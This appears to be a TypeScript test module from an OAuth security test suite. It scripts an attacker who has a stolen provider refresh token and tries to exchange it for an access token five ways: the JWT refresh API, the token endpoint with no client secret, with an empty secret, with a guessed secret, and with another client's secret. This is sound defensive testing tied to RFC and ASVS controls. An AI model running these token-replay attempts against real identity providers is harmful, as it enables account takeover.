/** The provider's refresh token itself, in the hands of somebody who is no application. */
import type { Attack } from "../attack.ts";
import { callApi, Client } from "../client.ts";
import { elsewhere, victim } from "../people.ts";
import type { Target } from "../target.ts";
import { theftFrom } from "../theft.ts";
import { rawRefreshToken } from "../unsealed.ts";

const storeId = "10000000-0000-4000-8000-000000000001";
const forumId = "10000000-0000-4000-8000-000000000002";

export const attack: Attack = {
  title: "Raw refresh token at the provider, without the client's credentials",
  story:
    "The attacker has the provider's own refresh token, from a log or a memory dump, but no client secret. They go to the provider past the applications and try every way to exchange it: the JWT API, the token endpoint without a secret, with a guessed one, and with the secret of the Forum, which is another application. One access token would be enough.",
  source: "RFC 6749 §6, §10.4; RFC 9700 §4.14.2; ASVS 10.4.5, 10.4.10",
  promised: { kind: "nothing" },
  asDescribed: "falls",
  control: ["client-secret-not-checked"],
  async run(target) {
    const owner = await victim(target);
    const theft = await theftFrom(target);
    const token = rawRefreshToken(target, owner);
    await theft.attempt(() => byJwtApi(target, token));
    await theft.attempt(() => byGrant(target, token, null));
    await theft.attempt(() => byGrant(target, token, `${storeId}:`));
    await theft.attempt(() => byGrant(target, token, `${storeId}:${"guess".repeat(8)}`));
    await theft.attempt(() => byGrant(target, token, `${forumId}:${target.secret("forumClientSecret")}`));
    return theft.measured(owner);
  },
};

async function byJwtApi(target: Target, refreshToken: string): Promise<boolean> {
  const json = { refreshToken };
  const { status, body } = await callApi(target.origins.idp, "POST", "/api/jwt/refresh", { json });
  return status === 200 && typeof (body as { token?: unknown }).token === "string";
}

/** The refresh grant with Basic credentials; without any, the client is only named in the form. */
async function byGrant(target: Target, token: string, credentials: string | null): Promise<boolean> {
  const body = new URLSearchParams({ grant_type: "refresh_token", refresh_token: token });
  if (credentials === null) body.set("client_id", storeId);
  const authorization = credentials === null ? null : `Basic ${Buffer.from(credentials).toString("base64")}`;
  const thief = new Client(target.origins.idp, elsewhere);
  const { status, text } = await thief.send("POST", "/oauth2/token", { body, headers: { authorization } });
  return status === 200 && text.includes("access_token");
}
